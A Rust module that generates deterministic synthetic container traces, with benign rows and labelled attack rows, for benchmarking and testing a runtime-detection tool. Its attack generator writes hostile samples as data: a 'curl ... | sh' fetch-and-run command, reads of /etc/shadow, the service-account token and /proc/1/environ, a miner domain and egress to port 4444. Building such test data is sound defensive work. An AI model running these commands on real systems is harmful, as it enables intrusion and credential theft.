//! Synthetic traces: many workloads in many environments, with labelled
//! attacks, for benchmarks and tests (`bob synth`).
//!
//! The data imitates what captures look like: each workload has its own
//! vocabulary of syscalls, opens, execs, capabilities, DNS names and peers,
//! drawn with Zipf-like frequencies (a few values are most rows, a long
//! tail is rare); opens include `/proc/<pid>/...` paths with changing pids
//! and config-map files under Kubernetes' `..YYYY_MM_DD_hh_mm_ss.N`
//! directories, which differ per environment. Up to 16 environments vary
//! os, Kubernetes distribution and version, kernel, arch and runtime, and
//! each adds a few syscalls of its own. Rows are grouped in runs (one
//! recording of every workload); a few runs are attacks in which a small
//! share of rows is malicious and labelled `attack` (a shell, `/etc/shadow`,
//! the service-account token, ptrace, bpf, a miner's domain, egress to a
//! public address, `/proc/1/environ`, `CAP_SYS_ADMIN`, and a stealthy exec
//! that looks benign); every other row is `benign`.
//!
//! Output is deterministic for a seed: every file has its own generator
//! seeded from the seed and the file's index, and files are written on all
//! cores. Memory stays bounded: rows stream through [`TraceWriter`].
//! [`write_profiles`] writes one ContainerProfile per workload that allows
//! its common behaviour but not the rarest tail, so benign rows also raise
//! some false positives.

use std::path::{Path, PathBuf};
use std::sync::Arc;

use crate::env::Environment;
use crate::error::TraceError;
use crate::event::{Class, Event, Kind, Source};
use crate::writer::TraceWriter;

mod model;
mod profiles;

use model::{Rng, SYSCALLS, Workload, Zipf, workloads};
pub use profiles::write_profiles;

/// What to generate.
#[derive(Debug, Clone)]
pub struct SynthOptions {
    /// Rows in all files.
    pub rows: u64,
    /// Environments, 1 to 16.
    pub envs: usize,
    pub seed: u64,
    /// Workloads, at least 1.
    pub workloads: usize,
    /// Rows per file (the last file may have fewer).
    pub rows_per_file: u64,
    /// Share of runs that are attacks, 0 to 1.
    pub attack_runs: f64,
}

impl Default for SynthOptions {
    fn default() -> Self {
        SynthOptions {
            rows: 1_000_000,
            envs: 16,
            seed: 1,
            workloads: 12,
            rows_per_file: 500_000,
            attack_runs: 0.1,
        }
    }
}

/// What was written.
#[derive(Debug, Clone, Default)]
pub struct SynthReport {
    pub rows: u64,
    pub files: Vec<PathBuf>,
}

/// Rows of one run (one recording of all workloads).
const RUN_ROWS: u64 = 20_000;
/// Share of an attack run's rows that are malicious.
const ATTACK_SHARE: f64 = 0.01;

const OS: [&str; 4] = ["ubuntu-22.04", "ubuntu-24.04", "debian-12", "rhel-9.4"];
const K8S: [&str; 4] = ["k3s", "kind", "minikube", "gke"];
const VERSIONS: [&str; 5] = ["v1.29.8", "v1.30.0", "v1.31.0", "v1.32.0", "v1.33.3"];
const KERNELS: [&str; 4] = [
    "5.15.0-119-generic",
    "6.8.0-45-generic",
    "6.1.0-25-amd64",
    "5.14.0-427.el9",
];

/// The environment of index `e` (0 to 15).
pub fn environment(e: usize) -> Environment {
    let mut env = Environment::default();
    env.set("os", OS[(e / 4) % 4]);
    env.set(
        "distribution",
        OS[(e / 4) % 4].split('-').next().unwrap_or(""),
    );
    env.set("k8s_distribution", K8S[e % 4]);
    env.set("k8s_version", VERSIONS[(e * 3 + e / 4) % 5]);
    env.set("kernel", KERNELS[(e + e / 4) % 4]);
    env.set("arch", if e % 8 == 7 { "arm64" } else { "amd64" });
    env.set("runtime", if e % 5 == 4 { "cri-o" } else { "containerd" });
    env.set("cluster", &format!("synth-{e:02}"));
    env
}

/// Writes the dataset: `<dataset>/source=capture/synth-eNN-fNNNN.parquet`.
pub fn generate(dataset: &Path, opts: &SynthOptions) -> Result<SynthReport, TraceError> {
    let envs = opts.envs.clamp(1, 16);
    let per_file = opts.rows_per_file.max(1);
    let files = opts.rows.div_ceil(per_file);
    let wls = workloads(opts);
    let threads = std::thread::available_parallelism()
        .map_or(1, |n| n.get())
        .min(files.max(1) as usize);
    // (file index, path, rows) of every file, per worker.
    type Written = Vec<(u64, PathBuf, u64)>;
    let results: Vec<Result<Written, TraceError>> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..threads)
            .map(|t| {
                let wls = &wls;
                s.spawn(move || {
                    let mut out = Vec::new();
                    for f in (t as u64..files).step_by(threads) {
                        let rows = per_file.min(opts.rows - f * per_file);
                        let (path, n) =
                            write_file(dataset, opts, wls, f, (f as usize) % envs, rows)?;
                        out.push((f, path, n));
                    }
                    Ok(out)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("a synth worker does not panic"))
            .collect()
    });
    let mut all = Vec::new();
    for r in results {
        all.extend(r?);
    }
    all.sort();
    Ok(SynthReport {
        rows: all.iter().map(|x| x.2).sum(),
        files: all.into_iter().map(|x| x.1).collect(),
    })
}

/// The config-map data directory of environment `e`.
fn configmap_dir(e: usize) -> String {
    format!(
        "..2025_08_{:02}_19_41_{:02}.{}",
        1 + e % 28,
        e * 3 % 60,
        1_000_000_007u64 * (e as u64 + 1) % 9_999_999_967
    )
}

fn write_file(
    dataset: &Path,
    opts: &SynthOptions,
    wls: &[Workload],
    f: u64,
    e: usize,
    rows: u64,
) -> Result<(PathBuf, u64), TraceError> {
    let mut rng =
        Rng::new(opts.seed.wrapping_mul(0x2545_f491_4f6c_dd1d) ^ (f + 1).wrapping_mul(0x9e37_79b9));
    let env = Arc::new(environment(e));
    let env_syscalls: Vec<&str> = (0..3)
        .map(|k| SYSCALLS[(e * 7 + k * 13) % SYSCALLS.len()])
        .collect();
    let cm = configmap_dir(e);
    let pick_wl = Zipf::new(wls.len(), 0.8);
    let mut w = TraceWriter::create(dataset, Source::Capture, &format!("synth-e{e:02}-f{f:04}"))?;
    let mut time = 1_754_941_412_000_000_000i64 + f as i64 * 3_600_000_000_000;
    let mut run_class = (String::new(), String::new(), false, 0usize);
    for r in 0..rows {
        if r % RUN_ROWS == 0 {
            let k = f * rows.div_ceil(RUN_ROWS) + r / RUN_ROWS;
            let attack = rng.unit() < opts.attack_runs;
            let victim = rng.below(wls.len());
            let scenario = if attack {
                format!("attack-{}", ATTACKS[rng.below(ATTACKS.len())])
            } else {
                format!("functional-{}", k % 5)
            };
            run_class = (format!("e{e:02}-run{k:05}"), scenario, attack, victim);
        }
        time += 1 + rng.below(2_000_000) as i64;
        let (run, scenario, attack, victim) = &run_class;
        let wi = if *attack && rng.unit() < ATTACK_SHARE * 4.0 {
            *victim
        } else {
            pick_wl.sample(&mut rng)
        };
        let wl = &wls[wi];
        let mut ev = if *attack && wi == *victim && rng.unit() < 0.25 {
            malicious(&scenario["attack-".len()..], wl, &env, &mut rng)
        } else {
            benign(wl, &env, &env_syscalls, &cm, &mut rng)
        };
        ev.first_seen = Some(time);
        ev.last_seen = Some(time);
        ev.run = Some(run.clone());
        ev.scenario = Some(scenario.clone());
        ev.container.namespace = Some("synth".into());
        ev.container.workload_kind = Some("Deployment".into());
        ev.container.workload_name = Some(wl.name.clone());
        ev.container.name = Some(wl.name.clone());
        ev.container.image = Some(wl.image.clone());
        ev.container.container_id = Some(format!("{:016x}{:04x}", f, wi));
        ev.process.uid = Some(1000);
        ev.process.gid = Some(1000);
        ev.process.ppid = Some(1);
        w.write(ev)?;
    }
    let n = w.rows();
    Ok((w.finish()?, n))
}

fn benign(
    wl: &Workload,
    env: &Arc<Environment>,
    env_syscalls: &[&str],
    cm: &str,
    rng: &mut Rng,
) -> Event {
    let roll = rng.below(100);
    let pid = 100 + rng.below(30_000) as u32;
    let exe = format!("/usr/bin/{}", wl.name);
    let mut e;
    match roll {
        0..=44 => {
            e = Event::new(Kind::Syscall, env.clone());
            let name = if rng.below(100) == 0 {
                env_syscalls[rng.below(env_syscalls.len())].to_owned()
            } else {
                wl.syscalls[wl.zipf[0].sample(rng)].clone()
            };
            e.syscall = Some(name);
            e.count = 1 + rng.below(1000) as u64;
        }
        45..=84 => {
            e = Event::new(Kind::Open, env.clone());
            let pattern = &wl.opens[wl.zipf[1].sample(rng)];
            let path = pattern
                .replace("{pid}", &pid.to_string())
                .replace("{cm}", cm);
            e.flags = Some(vec![
                if path.contains("/data/") {
                    "O_RDWR"
                } else {
                    "O_RDONLY"
                }
                .into(),
                "O_CLOEXEC".into(),
            ]);
            e.path = Some(path);
            e.ret = Some(3);
        }
        85..=87 => {
            e = Event::new(Kind::Exec, env.clone());
            let (path, argv) = &wl.execs[wl.zipf[2].sample(rng)];
            e.path = Some(path.clone());
            e.argv = Some(argv.clone());
            e.process.comm = Some(comm(path));
            e.process.exe = Some(path.clone());
        }
        88..=91 => {
            e = Event::new(Kind::Capability, env.clone());
            e.capability = Some(wl.caps[wl.zipf[3].sample(rng)].clone());
            e.ret = Some(0);
        }
        92..=95 => {
            e = Event::new(Kind::Dns, env.clone());
            e.domain = Some(format!("{}.", wl.domains[wl.zipf[4].sample(rng)]));
            e.dns_type = Some("A".into());
        }
        _ => {
            e = Event::new(Kind::Network, env.clone());
            e.direction = Some("outbound".into());
            e.protocol = Some("tcp".into());
            e.remote_addr = Some(wl.peers[wl.zipf[5].sample(rng)].clone());
            e.remote_port = Some(443);
        }
    }
    if e.process.comm.is_none() {
        e.process.comm = Some(wl.name.clone());
        e.process.exe = Some(exe);
    }
    e.process.pid = Some(pid);
    e.class = Class::Benign;
    e
}

/// The attacks of attack runs.
#[rustfmt::skip]
const ATTACKS: [&str; 10] = [
    "shell", "shadow", "token", "ptrace", "bpf",
    "miner-dns", "egress", "environ", "capability", "stealth",
];

fn malicious(attack: &str, wl: &Workload, env: &Arc<Environment>, rng: &mut Rng) -> Event {
    let open = |path: &str| {
        let mut e = Event::new(Kind::Open, env.clone());
        e.path = Some(path.to_owned());
        e.flags = Some(vec!["O_RDONLY".into()]);
        e
    };
    let syscall = |name: &str| {
        let mut e = Event::new(Kind::Syscall, env.clone());
        e.syscall = Some(name.to_owned());
        e
    };
    let mut e = match attack {
        "shell" => {
            let mut e = Event::new(Kind::Exec, env.clone());
            e.path = Some("/bin/sh".into());
            e.argv = Some(vec![
                "sh".into(),
                "-c".into(),
                "curl -s http://203.0.113.50/x | sh".into(),
            ]);
            e.process.comm = Some("sh".into());
            e
        }
        "shadow" => open("/etc/shadow"),
        "token" => open("/var/run/secrets/kubernetes.io/serviceaccount/token"),
        "environ" => open("/proc/1/environ"),
        "ptrace" => syscall("ptrace"),
        "bpf" => syscall("bpf"),
        "miner-dns" => {
            let mut e = Event::new(Kind::Dns, env.clone());
            e.domain = Some("xmr.pool.minergate.com.".into());
            e
        }
        "egress" => {
            let mut e = Event::new(Kind::Network, env.clone());
            e.direction = Some("outbound".into());
            e.protocol = Some("tcp".into());
            e.remote_addr = Some(format!("45.9.148.{}", 1 + rng.below(250)));
            e.remote_port = Some(4444);
            e
        }
        "capability" => {
            let mut e = Event::new(Kind::Capability, env.clone());
            e.capability = Some("SYS_ADMIN".into());
            e
        }
        _ => {
            // Living off the land: the workload's own most common exec.
            let mut e = Event::new(Kind::Exec, env.clone());
            let (path, argv) = &wl.execs[0];
            e.path = Some(path.clone());
            e.argv = Some(argv.clone());
            e
        }
    };
    if e.process.comm.is_none() {
        e.process.comm = Some(wl.name.clone());
    }
    e.process.exe = e
        .path
        .clone()
        .filter(|_| e.kind == Kind::Exec)
        .or(Some(format!("/usr/bin/{}", wl.name)));
    e.process.pid = Some(100 + rng.below(30_000) as u32);
    e.class = Class::Attack;
    e
}

fn comm(path: &str) -> String {
    let base = path.rsplit('/').next().unwrap_or(path);
    base.chars().take(15).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_and_complete() {
        let a = tempfile::tempdir().unwrap();
        let b = tempfile::tempdir().unwrap();
        let opts = SynthOptions {
            rows: 30_000,
            envs: 3,
            rows_per_file: 10_000,
            attack_runs: 1.0,
            ..Default::default()
        };
        let ra = generate(a.path(), &opts).unwrap();
        let rb = generate(b.path(), &opts).unwrap();
        assert_eq!((ra.rows, ra.files.len()), (30_000, 3));
        for (x, y) in ra.files.iter().zip(&rb.files) {
            assert_eq!(
                std::fs::read(x).unwrap(),
                std::fs::read(y).unwrap(),
                "{}",
                x.display()
            );
        }
        let profiles = write_profiles(&a.path().join("profiles"), &opts).unwrap();
        assert_eq!(profiles.len(), 12);
        bob_profile::read_file(&profiles[0]).unwrap();
        assert!(environment(3) != environment(4));
    }
}
